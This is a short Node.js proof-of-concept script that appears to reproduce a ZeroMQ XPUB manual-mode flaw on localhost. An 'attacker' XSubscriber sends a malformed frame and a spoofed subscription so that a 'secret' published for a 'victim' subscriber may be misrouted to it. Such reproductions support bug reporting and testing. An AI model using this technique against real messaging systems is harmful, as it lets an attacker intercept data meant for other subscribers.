import { XPublisher, XSubscriber, Subscriber } from 'zeromq'
import { randomBytes } from 'node:crypto'
import { setTimeout as delay } from 'node:timers/promises'
const spin = (ms) => { const t = performance.now(); while (performance.now() - t < ms); }
const x = new XPublisher({ manual: true, verbosity: 'allSubsUnsubs', linger: 0 })
await x.bind('tcp://127.0.0.1:*')
const address = x.lastEndpoint
const T = randomBytes(16)
;(async () => { for (;;) { const m = await x.receive(); console.log('got', m[0].subarray(0, 4).toString('hex'), m.length, 'readable', x.readable)
  if (m[0].length === 17 && m[0].subarray(1).equals(T)) x.setStringOption(6, T) } })().catch(() => {})
const victim = new Subscriber({ linger: 0 }); victim.connect(address)
const attacker = new XSubscriber({ linger: 0 }); attacker.connect(address); const second = new XSubscriber({ linger: 0 }); second.connect(address)
await delay(200)
attacker.send(Buffer.from([7, 7, 7])); spin(30)
victim.subscribe(T); spin(30)
second.send(Buffer.concat([Buffer.from([1]), randomBytes(16)])); spin(30)
await delay(100)
victim.receive().then((m) => console.log('VICTIM got', m.length)).catch(() => {})
second.receive().then((m) => console.log('ATTACKER got', m.length)).catch(() => {})
await x.send([T, 'secret'])
await delay(200)
x.close(); victim.close(); attacker.close(); second.close()
